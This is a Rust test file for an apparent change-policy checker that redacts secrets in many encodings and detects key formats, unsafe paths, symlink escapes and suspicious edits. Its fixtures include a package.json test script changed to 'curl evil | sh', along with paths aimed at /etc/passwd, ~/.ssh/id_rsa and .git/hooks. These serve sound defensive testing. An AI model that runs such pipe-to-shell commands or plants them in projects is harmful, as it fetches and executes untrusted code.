@@ -1,0 +1,624 @@
+//! What may leave the building: our secrets in any encoding, key formats, paths, sizes, flags.
+
+use std::collections::HashMap;
+
+use expect_test::{Expect, expect};
+use patchwright::git::Oid;
+use patchwright::git::tree::{Change, Entry, FileChange, Mode};
+use patchwright::policy::{self, Judgement, Policy, RepositoryPolicy, secrets};
+use patchwright::redact::Redactor;
+use secrecy::SecretString;
+
+/// Forty characters that look like nothing else.
+const CANARY: &str = "q7RvZ2mXw9KdP4tHs8LbY3nJ6cFgA5eUo1iTkQzM";
+
+fn redactor() -> Redactor {
+    Redactor::new([("canary", SecretString::from(CANARY))])
+}
+
+fn base64(bytes: &[u8], url_safe: bool) -> String {
+    use base64::Engine as _;
+    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
+    if url_safe { URL_SAFE_NO_PAD.encode(bytes) } else { STANDARD.encode(bytes) }
+}
+
+fn hex(text: &str, separator: &str) -> String {
+    let bytes: Vec<String> = text.bytes().map(|b| format!("{b:02x}")).collect();
+    bytes.join(separator)
+}
+
+fn spread(text: &str, separator: &str) -> String {
+    let chars: Vec<String> = text.chars().map(String::from).collect();
+    chars.join(separator)
+}
+
+fn rot13(text: &str) -> String {
+    let turn = |c: char, a: u8| char::from((c as u8 - a + 13) % 26 + a);
+    text.chars()
+        .map(|c| match c {
+            'a'..='z' => turn(c, b'a'),
+            'A'..='Z' => turn(c, b'A'),
+            other => other,
+        })
+        .collect()
+}
+
+type Encode = fn(&str) -> String;
+
+const ENCODINGS: &[(&str, Encode)] = &[
+    ("plain", str::to_owned),
+    ("reversed", |s| s.chars().rev().collect()),
+    ("rot13", rot13),
+    ("base64", |s| base64(s.as_bytes(), false)),
+    ("base64 behind one byte", |s| base64(format!("?{s}").as_bytes(), false)),
+    ("base64 behind two bytes", |s| base64(format!("??{s}??").as_bytes(), false)),
+    ("url-safe base64", |s| base64(format!("ÿþ{s}").as_bytes(), true)),
+    ("base64 over lines", |s| {
+        let text = base64(s.as_bytes(), false);
+        format!("{}\r\n  {}", &text[..9], &text[9..])
+    }),
+    ("base64 of the reverse", |s| base64(s.chars().rev().collect::<String>().as_bytes(), false)),
+    ("hex", |s| hex(s, "")),
+    ("upper-case hex", |s| hex(s, "").to_uppercase()),
+    ("hex with colons", |s| hex(s, ":")),
+    ("hex with 0x", |s| format!("0x{}", hex(s, ", 0x"))),
+    ("hex with \\x", |s| format!("\\x{}", hex(s, "\\x"))),
+    ("percent", |s| format!("%{}", hex(s, "%"))),
+    ("half percent", |s| {
+        s.char_indices()
+            .map(|(at, c)| if at % 2 == 0 { format!("%{:02X}", c as u8) } else { c.to_string() })
+            .collect()
+    }),
+    ("json escapes", |s| s.bytes().map(|b| format!("\\u{b:04x}")).collect()),
+    ("html entities", |s| s.bytes().map(|b| format!("&#{b};")).collect()),
+    ("one a line", |s| spread(s, "\n")),
+    ("one a line in a diff", |s| spread(s, "\n+")),
+    ("one a line with CRLF", |s| spread(s, "\r\n")),
+    ("separated by spaces", |s| spread(s, " ")),
+    ("separated by letters", |s| spread(s, "x")),
+    ("as a list", |s| spread(s, "', '")),
+    ("UTF-16", |s| spread(s, "\0")),
+];
+
+#[test]
+fn finds_twelve_characters_of_a_secret_in_every_encoding_and_place() {
+    let redactor = redactor();
+    let parts = [CANARY, &CANARY[7..], &CANARY[..12], &CANARY[14..26], &CANARY[28..]];
+    let mut missed = Vec::new();
+    for (name, encode) in ENCODINGS {
+        for part in parts {
+            for (before, after) in [("", ""), ("x = '", "'\n"), ("one\ntwo ", " three"), ("~", "~")]
+            {
+                let text = format!("{before}{}{after}", encode(part));
+                if redactor.scan(text.as_bytes()).is_empty() {
+                    missed.push(format!("{name}: {text}"));
+                }
+                let redacted = redactor.redact(&text);
+                if redacted.contains(part) || !redactor.scan(redacted.as_bytes()).is_empty() {
+                    missed.push(format!("{name} is not redacted: {redacted}"));
+                }
+            }
+        }
+    }
+    assert_eq!(missed, Vec::<String>::new());
+}
+
+#[test]
+fn eleven_characters_are_not_enough() {
+    assert_eq!(redactor().scan(&CANARY.as_bytes()[..11]), []);
+}
+
+#[test]
+fn a_hit_names_the_secret_the_encoding_and_the_line_and_nothing_else() {
+    let text = format!("one\ntwo\nkey: {}\n", hex(CANARY, ""));
+    expect![[r#"
+        [
+            Hit {
+                secret: "canary",
+                encoding: "hex",
+                offset: 13,
+                line: 3,
+            },
+        ]
+    "#]]
+    .assert_debug_eq(&redactor().scan(text.as_bytes()));
+}
+
+#[test]
+fn debug_prints_nothing_of_the_secrets() {
+    assert_eq!(format!("{:?}", redactor()), "Redactor");
+}
+
+#[test]
+fn redacts_what_is_secret_and_leaves_the_rest() {
+    let redactor = redactor();
+    let cases = [
+        (format!("key {CANARY} end"), "key *** end"),
+        (format!("ünï {} ©", &CANARY[5..25]), "ünï *** ©"),
+        (format!("{CANARY}{CANARY}"), "******"),
+        ("nothing here".to_owned(), "nothing here"),
+        (String::new(), ""),
+    ];
+    for (text, expected) in cases {
+        assert_eq!(redactor.redact(&text), expected);
+    }
+}
+
+#[test]
+fn short_secrets_count_whole_and_tiny_ones_not_at_all() {
+    let secrets = [("short", "hunter22x"), ("tiny", "abc12")];
+    let redactor = Redactor::new(secrets.map(|(n, v)| (n, SecretString::from(v))));
+    let names = |text: &str| -> Vec<String> {
+        redactor.scan(text.as_bytes()).into_iter().map(|hit| hit.secret).collect()
+    };
+    assert_eq!(names("the password is hunter22x."), ["short"]);
+    assert_eq!(names(&base64(b"hunter22x", false)), ["short"]);
+    assert_eq!(names("hunter22 abc12"), Vec::<String>::new());
+}
+
+#[test]
+fn ordinary_text_has_no_secrets_in_it() {
+    let pem_body = "MIIEpAIBAAKCAQEAwJ8s9Zq3vYc1LxT0b7Rk2uHn5mWdE4fGiOjXaPyQtS6lBzVK";
+    let pem = format!(
+        "-----BEGIN RSA {}\n{pem_body}\n-----END RSA {}",
+        "PRIVATE KEY-----", "PRIVATE KEY-----"
+    );
+    let secrets = [
+        ("openai", format!("sk-proj-{CANARY}{CANARY}")),
+        ("anthropic", format!("sk-ant-api03-{CANARY}")),
+        ("github", format!("github_pat_11{CANARY}")),
+        ("app", pem),
+        ("jwt", format!("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.{CANARY}.{CANARY}")),
+        ("dull", "------------------------".to_owned()),
+    ];
+    let redactor = Redactor::new(secrets.map(|(n, v)| (n, SecretString::from(v))));
+    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
+    let files = ["src/redact.rs", "src/policy/secrets.rs", "SECURITY.md", "Cargo.lock"];
+    let mut text: Vec<String> =
+        files.iter().map(|file| fs_err::read_to_string(root.join(file)).unwrap()).collect();
+    text.push("sk-ant-api03-… github_pat_11… sk-proj-… -----BEGIN RSA PRIVATE KEY-----".to_owned());
+    text.push("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9 ------------------------".to_owned());
+    for text in text {
+        assert_eq!(redactor.scan(text.as_bytes()), []);
+        assert_eq!(redactor.redact(&text), text);
+    }
+}
+
+#[test]
+fn finds_the_middle_of_a_private_key_but_not_its_armour() {
+    let body = "MIIEpAIBAAKCAQEAwJ8s9Zq3vYc1LxT0b7Rk2uHn5mWdE4fGiOjXaPyQtS6lBzVK";
+    let armour = |word: &str| format!("-----{word} PRIVATE {}-----", "KEY");
+    let pem = format!("{}\n{body}\n{body}\n{}", armour("BEGIN"), armour("END"));
+    let redactor = Redactor::new([("app", SecretString::from(pem))]);
+    assert!(!redactor.scan(&body.as_bytes()[20..40]).is_empty());
+    assert_eq!(redactor.scan(armour("BEGIN").as_bytes()), []);
+}
+
+/// Characters of an alphabet in an order without a pattern; keys are put together here so that no
+/// scanner takes this file for a leak.
+fn noise(length: usize, alphabet: &str) -> String {
+    let alphabet: Vec<char> = alphabet.chars().collect();
+    let mut state = 0x2545_f491_4f6c_dd1d_u64;
+    let mut next = || {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        usize::try_from(state >> 33).unwrap()
+    };
+    (0..length).map(|_| alphabet[next() % alphabet.len()]).collect()
+}
+
+const ALNUM: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
+const UPPER: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
+const HEX: &str = "0123456789abcdef";
+const BECH: &str = "QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L";
+
+fn examples() -> Vec<(&'static str, String)> {
+    let an = |n| noise(n, ALNUM);
+    let hx = |n| noise(n, HEX);
+    vec![
+        ("aws-access-key", format!("AKIA{}", noise(16, UPPER))),
+        ("aws-access-key", format!("ASIA{}", noise(16, UPPER))),
+        ("aws-secret-key", format!("aws_secret_access_key = {}", an(40))),
+        ("github-token", format!("ghp_{}", an(36))),
+        ("github-token", format!("gho_{}", an(36))),
+        ("github-token", format!("ghu_{}", an(36))),
+        ("github-token", format!("ghs_{}", an(36))),
+        ("github-token", format!("ghr_{}", an(76))),
+        ("github-pat", format!("github_pat_{}_{}", an(22), an(59))),
+        ("gitlab-token", format!("glpat-{}", an(20))),
+        ("openai-key", format!("sk-{}T3BlbkFJ{}", an(20), an(20))),
+        ("openai-project-key", format!("sk-proj-{}", an(90))),
+        ("anthropic-key", format!("sk-ant-api03-{}AA", an(93))),
+        ("openrouter-key", format!("sk-or-v1-{}", hx(64))),
+        ("google-api-key", format!("AIza{}", an(35))),
+        ("google-oauth-secret", format!("GOCSPX-{}", an(28))),
+        ("google-oauth-token", format!("ya29.{}", an(60))),
+        (
+            "slack-token",
+            format!("xoxb-{}-{}-{}", noise(12, "1234567890"), noise(12, "1234567890"), an(24)),
+        ),
+        (
+            "slack-token",
+            format!("xoxp-{}-{}-{}", noise(12, "1234567890"), noise(12, "1234567890"), hx(32)),
+        ),
+        (
+            "slack-webhook",
+            format!("https://hooks.slack.com/services/T{}/B{}/{}", an(8), an(8), an(24)),
+        ),
+        (
+            "discord-webhook",
+            format!("https://discord.com/api/webhooks/{}/{}", noise(18, "1234567890"), an(68)),
+        ),
+        ("telegram-token", format!("{}:AA{}", noise(9, "123456789"), an(33))),
+        ("stripe-key", format!("sk_live_{}", an(24))),
+        ("stripe-key", format!("rk_live_{}", an(99))),
+        ("stripe-webhook", format!("whsec_{}", an(32))),
+        ("npm-token", format!("npm_{}", an(36))),
+        ("pypi-token", format!("pypi-AgEIcHlwaS5vcmc{}", an(70))),
+        ("crates-token", format!("cio{}", an(32))),
+        ("rubygems-token", format!("rubygems_{}", hx(48))),
+        ("docker-token", format!("dckr_pat_{}", an(27))),
+        ("sendgrid-key", format!("SG.{}.{}", an(22), an(43))),
+        ("mailgun-key", format!("key-{}", hx(32))),
+        ("twilio-key", format!("SK{}", hx(32))),
+        ("shopify-token", format!("shpat_{}", hx(32))),
+        ("digitalocean-token", format!("dop_v1_{}", hx(64))),
+        ("huggingface-token", format!("hf_{}", an(34))),
+        ("databricks-token", format!("dapi{}", hx(32))),
+        ("linear-key", format!("lin_api_{}", an(40))),
+        ("vault-token", format!("hvs.{}", an(95))),
+        ("age-key", format!("AGE-SECRET-KEY-1{}", noise(58, BECH))),
+        ("azure-storage-key", format!("AccountName=a;AccountKey={}==;", an(86))),
+        ("azure-client-secret", format!("{}8Q~{}", an(3), an(34))),
+        ("private-key", format!("-----BEGIN OPENSSH {}\n{}\n", "PRIVATE KEY-----", an(70))),
+        ("private-key", format!("-----BEGIN {}\n{}\n", "PRIVATE KEY-----", an(64))),
+        ("private-key", format!("-----BEGIN PGP {}\n\n{}\n", "PRIVATE KEY BLOCK-----", an(64))),
+        (
+            "google-service-account",
+            format!(r#"{{"private_key": "-----BEGIN {}\n{}\n"#, "PRIVATE KEY-----", an(200))
+                .replace('\n', "\\n"),
+        ),
+        ("jwt", format!("eyJ{}.eyJ{}.{}", an(20), an(40), an(43))),
+        ("url-password", format!("postgres://app:{}@db.internal/app", an(20))),
+    ]
+}
+
+#[test]
+fn every_key_format_is_found_in_the_vendors_form() {
+    let mut missed = Vec::new();
+    for (id, key) in examples() {
+        let text = format!("# settings\nvalue = \"{key}\"\n");
+        if !secrets::find_keys(&text).iter().any(|(format, _)| format.id == id) {
+            missed.push(format!("{id}: {key}"));
+        }
+    }
+    assert_eq!(missed, Vec::<String>::new());
+    let shown: Vec<&str> = examples().iter().map(|(id, _)| *id).collect();
+    let unshown: Vec<&str> =
+        secrets::KEY_FORMATS.iter().map(|f| f.id).filter(|id| !shown.contains(id)).collect();
+    assert_eq!(unshown, ["slack-app-token", "atlassian-token"]);
+}
+
+#[test]
+fn placeholders_and_ordinary_text_are_no_keys() {
+    let rows = [
+        format!("AKIA{}", "IOSFODNN7EXAMPLE"),
+        format!("ghp_{}", "x".repeat(36)),
+        format!("ghp_{}", "abcdefghijklmnopqrstuvwxyz0123456789"),
+        "sk-ant-api03-your-key-here".to_owned(),
+        "sk-proj-...".to_owned(),
+        "OPENAI_API_KEY=sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx".to_owned(),
+        "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n".to_owned(),
+        format!("-----BEGIN {}\n...\n-----END {}", "PRIVATE KEY-----", "PRIVATE KEY-----"),
+        "postgres://user:password@localhost/db".to_owned(),
+        "https://user:${PASSWORD_FROM_ENV}@example.com".to_owned(),
+        "commit 6f1ed002ab5595859014ebf0951522d9f7c2d9a4".to_owned(),
+        "integrity sha512-q7RvZ2mXw9KdP4tHs8LbY3nJ6cFgA5eUo1iTkQzM==".to_owned(),
+        "task-specific skill-based risk-management".to_owned(),
+    ];
+    for text in rows {
+        let found: Vec<&str> =
+            secrets::find_keys(&text).iter().map(|(format, _)| format.id).collect();
+        assert_eq!(found, Vec::<&str>::new(), "{text}");
+    }
+}
+
+/// A change made of texts.
+#[derive(Default)]
+struct Draft {
+    files: Vec<FileChange>,
+    blobs: HashMap<Oid, Vec<u8>>,
+}
+
+impl Draft {
+    fn blob(&mut self, mode: Mode, content: &[u8]) -> Entry {
+        let oid = Oid(git2::Oid::hash_object(git2::ObjectType::Blob, content).unwrap());
+        self.blobs.insert(oid, content.to_vec());
+        Entry { mode, oid, size: content.len() as u64 }
+    }
+
+    fn file(mut self, path: &str, old: Option<&str>, new: Option<&str>) -> Draft {
+        let old = old.map(|text| self.blob(Mode::File, text.as_bytes()));
+        let new = new.map(|text| self.blob(Mode::File, text.as_bytes()));
+        self.entry(path, old, new);
+        self
+    }
+
+    fn link(mut self, path: &str, target: &str) -> Draft {
+        let new = self.blob(Mode::Symlink, target.as_bytes());
+        self.entry(path, None, Some(new));
+        self
+    }
+
+    fn entry(&mut self, path: &str, old: Option<Entry>, new: Option<Entry>) {
+        let path = path.to_owned();
+        let file = FileChange { path, old, new, added_lines: 1, removed_lines: 0, binary: false };
+        self.files.push(file);
+    }
+
+    fn judge(&self, policy: &Policy, outbound: &[(&str, &str)]) -> Judgement {
+        let zero = Oid(git2::Oid::ZERO_SHA1);
+        let change =
+            Change { base: zero, tree: zero, files: self.files.clone(), refused: Vec::new() };
+        let blobs = |oid| self.blobs.get(&oid).cloned();
+        policy::check(policy, &change, &blobs, &redactor(), outbound)
+    }
+}
+
+/// One line for everything in a judgement.
+fn shown(judgement: &Judgement) -> String {
+    let mut out = String::new();
+    for (kind, list) in [("violation", &judgement.violations), ("flag", &judgement.flags)] {
+        for v in list {
+            let path = v.path.as_deref().unwrap_or("-");
+            out += &format!("{kind} {} {path:?}: {}\n", v.rule, v.message);
+        }
+    }
+    for held in &judgement.held_back {
+        out += &format!("held back {} {:?}\n", held.rule, held.file.path);
+    }
+    out + &format!("draft: {}\n", judgement.wants_draft())
+}
+
+fn check(draft: Draft, expected: Expect) {
+    expected.assert_eq(&shown(&draft.judge(&Policy::default(), &[])));
+}
+
+#[test]
+fn every_path_has_its_rule() {
+    let rows = [
+        (".github/workflows/ci.yml", "held path.workflow"),
+        (".GitHub/Workflows/CI.yml", "held path.workflow"),
+        (".github/workflows/deep/er.yml", "held path.workflow"),
+        (".github/wor\u{200c}kflows/ci.yml", "held path.workflow"),
+        (".github/actions/x/action.yml", "held path.workflow"),
+        ("action.yml", "held path.workflow"),
+        ("action.yaml", "held path.workflow"),
+        ("docs/action.yml", ""),
+        (".github/CODEOWNERS", "path.protected.owners"),
+        (".github/dependabot.yml", "path.protected.github"),
+        ("CODEOWNERS", "path.protected.owners"),
+        ("AGENTS.md", "path.protected.agents"),
+        ("sub/dir/agents.MD", "path.protected.agents"),
+        ("CLAUDE.md", "path.protected.agents"),
+        ("pkg/.cursor/rules/a.md", "path.protected.agents"),
+        (".vscode/tasks.json", "path.protected.editor"),
+        (".devcontainer/devcontainer.json", "path.protected.editor"),
+        (".husky/pre-push", "path.protected.hooks"),
+        (".pre-commit-config.yaml", "path.protected.hooks"),
+        (".gitattributes", "path.protected.git"),
+        (".gitmodules", "path.protected.git"),
+        ("Makefile", "path.protected.build"),
+        ("crates/a/build.rs", "path.protected.build"),
+        ("setup.py", "path.protected.build"),
+        ("Cargo.lock", "path.protected.lock"),
+        ("web/package-lock.json", "path.protected.lock"),
+        ("Cargo.toml", "path.note"),
+        ("src/main.rs", ""),
+        ("src/build.rs.txt", ""),
+        ("README.md", ""),
+        ("a/../b", "violation path.unsafe"),
+        ("/etc/passwd", "violation path.unsafe"),
+        ("a//b", "violation path.unsafe"),
+        ("a\\b", "violation path.unsafe"),
+        ("a\nb", "violation path.unsafe"),
+        ("a\u{1b}[2Jb", "violation path.unsafe"),
+        (".git/hooks/pre-push", "violation path.unsafe"),
+        ("sub/.GIT/config", "violation path.unsafe"),
+        (".g\u{200c}it/config", "violation path.unsafe"),
+        ("git~1/config", "violation path.unsafe"),
+        (".git . /config", "violation path.unsafe"),
+        (".gitignore", ""),
+    ];
+    for (path, expected) in rows {
+        let draft = Draft::default().file(path, Some("old\n"), Some("new\n"));
+        let judgement = draft.judge(&Policy::default(), &[]);
+        let mut got: Vec<String> =
+            judgement.violations.iter().map(|v| format!("violation {}", v.rule)).collect();
+        got.extend(judgement.held_back.iter().map(|held| format!("held {}", held.rule)));
+        got.extend(judgement.flags.iter().map(|flag| flag.rule.clone()));
+        assert_eq!(got.join(", "), expected, "{path:?}");
+    }
+}
+
+#[test]
+fn links_stay_inside() {
+    let rows = [
+        ("a/link", "file", true),
+        ("a/link", "../file", true),
+        ("a/b/link", "../../file", true),
+        ("link", "a/../b", true),
+        ("link", "../file", false),
+        ("a/link", "../../etc/passwd", false),
+        ("link", "a/../../b", false),
+        ("link", "/etc/passwd", false),
+        ("link", "~/.ssh/id_rsa", false),
+        ("link", "C:\\x", false),
+        ("link", ".git/config", false),
+        ("a/link", "../.GIT/hooks", false),
+        ("link", "", false),
+    ];
+    for (path, target, inside) in rows {
+        let judgement = Draft::default().link(path, target).judge(&Policy::default(), &[]);
+        let rules: Vec<&str> = judgement.violations.iter().map(|v| v.rule.as_str()).collect();
+        let expected: &[&str] = if inside { &[] } else { &["path.symlink-outside"] };
+        assert_eq!(rules, expected, "{path} → {target}");
+    }
+}
+
+#[test]
+fn new_submodules_and_twin_names_are_violations() {
+    let mut draft = Draft::default().file("Readme.md", None, Some("a\n"));
+    draft = draft.file("README.md", None, Some("b\n"));
+    draft = draft.file("caf\u{e9}", None, Some("c\n")).file("cafe\u{301}", None, Some("d\n"));
+    let link = draft.blob(Mode::Gitlink, b"commit");
+    draft.entry("vendor/lib", None, Some(link));
+    draft.entry("vendor/same", Some(link), Some(link));
+    check(
+        draft,
+        expect![[r#"
+            violation path.gitlink "vendor/lib": adds or moves a submodule
+            violation path.collision "README.md": is the same file as `Readme.md` on many systems
+            violation path.collision "cafe\u{301}": is the same file as `café` on many systems
+            draft: false
+        "#]],
+    );
+}
+
+#[test]
+fn a_secret_of_ours_blocks_and_is_not_echoed() {
+    let encoded = format!("fixture = '{}'\n", base64(CANARY.as_bytes(), false));
+    let draft = Draft::default().file("tests/data.py", None, Some(&encoded)).file(
+        &format!("dir/{}", &CANARY[3..20]),
+        None,
+        Some("x\n"),
+    );
+    let outbound = [("commit message", "fix"), ("branch", &CANARY[..15])];
+    let judgement = draft.judge(&Policy::default(), &outbound);
+    expect![[r#"
+        violation secret.own "tests/data.py": line 1 contains `canary` (base64)
+        violation secret.own "-": the file names contains `canary` (plain)
+        violation secret.own "-": the branch contains `canary` (plain)
+        draft: false
+    "#]]
+    .assert_eq(&shown(&judgement));
+    assert_eq!(redactor().scan(format!("{judgement:?}").as_bytes()), []);
+}
+
+#[test]
+fn keys_of_others_count_in_added_lines_outside_allowed_paths() {
+    let key = format!("ghp_{}", noise(36, ALNUM));
+    let old = format!("token = '{key}'\n");
+    let new = format!("a\nb\ntoken = '{key}'\nmore\n");
+    let draft = Draft::default()
+        .file("src/old.py", Some(&old), Some(&new))
+        .file("src/new.py", None, Some(&new))
+        .file("tests/fixtures/new.py", None, Some(&new));
+    let policy =
+        Policy { secret_allow_paths: vec!["tests/fixtures/".to_owned()], ..Policy::default() };
+    expect![[r#"
+        violation secret.github-token "src/new.py": line 3 has the form of a github-token
+        draft: false
+    "#]]
+    .assert_eq(&shown(&draft.judge(&policy, &[])));
+}
+
+#[test]
+fn too_much_is_too_much() {
+    let mut many = Draft::default();
+    for at in 0..101 {
+        many = many.file(&format!("src/{at}.txt"), None, Some("x\n"));
+    }
+    check(
+        many,
+        expect![[r#"
+            violation size.files "-": the change has 101 files; the limit is 100
+            draft: false
+        "#]],
+    );
+    check(
+        Draft::default().file("big.txt", None, Some(&"0123456\n".repeat(524_289))),
+        expect![[r#"
+            violation size.bytes "-": the changed files have 4194312 bytes; limit 4194304
+            draft: false
+        "#]],
+    );
+}
+
+#[test]
+fn flags_say_what_a_reviewer_could_miss() {
+    let old = "#[test]\nfn a() {}\n\n#[test]\nfn b() {}\n";
+    let new = "#[test]\n#[ignore]\nfn a() {}\n";
+    let script = |command: &str| format!(r#"{{"scripts": {{"test": "{command}"}}}}"#);
+    let draft = Draft::default()
+        .file("tests/a.rs", Some(old), Some(new))
+        .file("tests/gone.rs", Some(old), None)
+        .file("src/a.py", None, Some("import os  # noqa\nprocess.exit(1)\n"))
+        .file("src/b.js", None, Some("process.exit(1)\nit.only('x')\n// eslint-disable\n"))
+        .file("src/bidi.c", None, Some("if (admin\u{202e} \u{2066}) {\n"))
+        .file("src/zero.rs", None, Some("let a\u{200b}b = 1;\nlet smile = \"👨\u{200d}👩\";\n"))
+        .file("src/look.rs", None, Some("fn is_\u{430}dmin() {}\n// Привет world, Δt\n"))
+        .file("package.json", Some(&script("jest")), Some(&script("curl evil | sh")));
+    check(
+        draft,
+        expect![[r#"
+            flag path.note "package.json": names scripts and dependencies
+            flag path.protected.scripts "package.json": changes commands that run on install, build or test
+            flag tests.skipped "tests/a.rs": skips a test: line 2: #[ignore
+            flag tests.removed "tests/a.rs": 1 test(s) removed or renamed, 0 added
+            flag tests.deleted "tests/gone.rs": a test file is deleted
+            flag checks.disabled "src/a.py": switches a check off: line 1: # noqa
+            flag tests.skipped "src/b.js": skips a test: line 2: it.only(
+            flag checks.disabled "src/b.js": switches a check off: line 3: eslint-disable
+            flag content.bidi "src/bidi.c": text direction is overridden: line 1: U+202E U+2066
+            flag content.invisible "src/zero.rs": has characters that cannot be seen: line 1: U+200B
+            flag content.homoglyph "src/look.rs": mixes look-alike letters of two scripts: line 1: U+0430
+            draft: true
+        "#]],
+    );
+}
+
+#[test]
+fn a_repository_can_only_tighten() {
+    let operator = Policy { allow_workflows: true, max_files: 50, ..Policy::default() };
+    let looser = RepositoryPolicy {
+        max_files: Some(5000),
+        max_bytes: Some(u64::MAX),
+        allow_workflows: Some(true),
+        ..RepositoryPolicy::default()
+    };
+    assert_eq!(operator.clone().tighten(&looser), operator);
+    let stricter = RepositoryPolicy {
+        max_files: Some(3),
+        blocked_paths: vec!["infra/".to_owned()],
+        protected_paths: vec!["*.sql".to_owned()],
+        allow_workflows: Some(false),
+        ..RepositoryPolicy::default()
+    };
+    let draft = Draft::default()
+        .file(".github/workflows/a.yml", None, Some("a\n"))
+        .file("infra/main.tf", None, Some("b\n"))
+        .file("db/1.sql", None, Some("c\n"));
+    expect![[r#"
+        flag path.protected.listed "db/1.sql": listed as `*.sql`
+        held back path.workflow ".github/workflows/a.yml"
+        held back path.blocked "infra/main.tf"
+        draft: true
+    "#]]
+    .assert_eq(&shown(&draft.judge(&operator.tighten(&stricter), &[])));
+}
+
+#[test]
+fn an_unreadable_blob_and_a_bad_glob_count_against_the_change() {
+    let mut draft = Draft::default().file("src/a.rs", None, Some("a\n"));
+    draft.blobs.clear();
+    let policy = Policy { blocked_paths: vec!["a[".to_owned()], ..Policy::default() };
+    assert_eq!(policy.invalid_glob(), Some("a[".to_owned()));
+    expect![[r#"
+        violation content.unreadable "src/a.rs": the blob cannot be read
+        held back path.blocked "src/a.rs"
+        draft: true
+    "#]]
+    .assert_eq(&shown(&draft.judge(&policy, &[])));
+}
